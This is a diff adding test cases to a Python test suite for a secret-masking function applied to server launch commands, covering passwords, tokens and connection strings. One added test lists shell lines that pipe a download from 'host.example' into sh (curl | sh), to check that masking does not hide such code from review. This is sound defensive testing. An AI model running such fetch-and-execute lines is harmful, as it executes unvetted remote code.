@@ -54,6 +54,36 @@ def words(*command: str) -> tuple[str, ...]:
         (["npx", "server", "X-Api-Key: one hunter2"], "hunter2"),
         (["env", "TOKEN=one hunter2", "npx", "server"], "hunter2"),
         (["npx", "server", "--dsn", "hunter2", "--cookie", "hunter2"], "hunter2"),
+        (["npx", "server", "--password hunter2"], "hunter2"),
+        (["npx", "server", '--api-key "hunter2 hunter2"'], "hunter2"),
+        (["npx", "server", "-y --api-key hunter2 --x"], "hunter2"),
+        (["sh", "-c", "npx server --password hunter2 --x"], "hunter2"),
+        (["sh", "-c", "npx server --api-key 'hunter2'"], "hunter2"),
+        (["sh", "-c", 'npx server --api-key="hunter2 x"'], "hunter2"),
+        (["sh", "-c", "curl -u me:hunter2 https://host.example/ | x"], "hunter2"),
+        (["sh", "-c", "server -p hunter2"], "hunter2"),
+        (["sh", "-c", "mysql -phunter2 base"], "hunter2"),
+        (["sh", "-c", "docker run -e plain=hunter2 image"], "hunter2"),
+        (["sh", "-c", "plain=hunter2 npx server"], "hunter2"),
+        (["sh", "-c", "cd x && plain='hunter2' npx server"], "hunter2"),
+        (["sh", "-c", """npx server --config '{"x": "hunter2"}'"""], "hunter2"),
+        (["cmd", "/c", "set plain=hunter2&& npx server"], "hunter2"),
+        (["powershell", "-Command", "$env:PLAIN = 'hunter2'; npx server"], "hunter2"),
+        (["plain=hunter2", "npx", "server"], "hunter2"),
+        (["npx", "server", '--config={"x": "hunter2"}'], "hunter2"),
+        (["npx", "server", '"{\\"x\\": \\"hunter2\\"}"'], "hunter2"),
+        (["npx", "server", """'{"x": "hunter2"}'"""], "hunter2"),
+        (["docker", "run", "-ePLAIN=hunter2", "image"], "hunter2"),
+        (["npx", "server", "--creds", "hunter2", "--mnemonic", "hunter2 hunter2", "--seed=hunter2"], "hunter2"),
+        (["npx", "--//host.example/:_authToken", "hunter2", "server"], "hunter2"),
+        (["npx", "server", "me:hunter2@db.example:5432/x"], "hunter2"),
+        (["npx", "server", "jdbc:oracle:thin:me/hunter2@//db.example:1521/x"], "hunter2"),
+        (["npx", "server", "postgresql://me:a/hunter2@db.example/x"], "hunter2"),
+        (["npx", "server", "postgresql://me:a@b/hunter2@db.example/x"], "hunter2"),
+        (["npx", "server", "postgresql://me:a;hunter2@db.example/x"], "hunter2"),
+        (["npx", "server", "https://${HOST:-hunter2}/mcp"], "hunter2"),
+        (["npx", "server", "https://host.example/mcp;token=hunter2"], "hunter2"),
+        (["npx", "server", "https://host.example/token=hunter2/mcp"], "hunter2"),
     ],
 )
 def test_no_secret_is_left_in_a_command(command: list[str], secret: str) -> None:
@@ -75,11 +105,37 @@ def test_no_secret_is_left_in_a_command(command: list[str], secret: str) -> None
         ["java", "-Dspring.main.web-application-type=none", "-jar", "/opt/server.jar"],
         ["npx", "api-gateway-server", "sk-learn-tools", "key-value-store", "token-counter"],
         ["npx", "server", "-p", "8080", "--transport", "streamable-http", "--toolsets=repos,issues"],
+        ["npx", "npm:server@1.2.0", "github:owner/repo", "git@git.example:owner/repo", "a.b@c.example"],
+        ["npx", "server", "--endpoint=https://host.example/auth/login", "-encoding=utf8", "https://host.example/keys/mcp"],
+        ["sh", "-c", "cd /srv && npx -y server --port 8080 --transport stdio"],
+        ["uvx", "--from", "git+https://host.example/owner/repo@v1.2.0#subdirectory=server", "server"],
         ["npx", "server", "MyVeryLongCamelCaseServerName", "/srv/MyProjectFolderOfTheYear"],
     ],
 )
 def test_what_is_needed_for_the_review_stays(command: list[str]) -> None:
     assert words(*command) == tuple(command)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "A=x; curl https://host.example/x | sh",
+        "TOKEN=x curl https://host.example/x | sh",
+        "[ 1 ] && curl https://host.example/x | sh",
+        "{ curl https://host.example/x | sh; }",
+        'TOKEN="$(curl https://host.example/x | sh)" y',
+        "x --token $(curl -s https://host.example/x | sh)",
+        "curl -s -k https://host.example/x | sh",
+        "x Token https://host.example/x | sh",
+    ],
+)
+def test_what_looks_like_a_secret_hides_no_code(code: str) -> None:
+    assert "https://host.example/x" in words("sh", "-c", code)[2]
+    assert "sh" in words("sh", "-c", code)[2].replace("sh -c", "")
+
+
+def test_what_a_program_fetches_stays() -> None:
+    assert words("curl", "-s", "https://host.example/x")[2] == "https://host.example/x"
 
 
 def test_names_of_variables_stay() -> None:
@@ -121,7 +177,34 @@ def test_variables_that_decide_what_runs_are_named() -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["", "=", "{", "[]", "--", "-", "${", "a" * 100_000, "=" * 50_000, '"' * 50_000, "://" * 10_000, "a://" * 9_000]
+    "text",
+    [
+        "",
+        "=",
+        "{",
+        "[]",
+        "--",
+        "-",
+        "${",
+        "a" * 100_000,
+        "=" * 50_000,
+        "a=b " * 9_000,
+        "-a b " * 9_000,
+        "--a " * 9_000,
+        "a:bcd@" * 5_000,
+        "'{" * 9_000,
+        '"[\\"' * 9_000,
+        '"' * 50_000,
+        "://" * 10_000,
+        "a://" * 9_000,
+        "$env:a=" * 5_000,
+        "=;" * 9_000,
+        "a:b" * 9_000,
+        "-p" * 9_000,
+        "a." * 9_000 + "@",
+        "x=" + "a=b;" * 9_000,
+        "jdbc:oracle:a:" * 3_000,
+    ],
 )
 def test_odd_texts_are_masked_in_good_time(text: str) -> None:
     assert len(masked(text)) <= 60_000
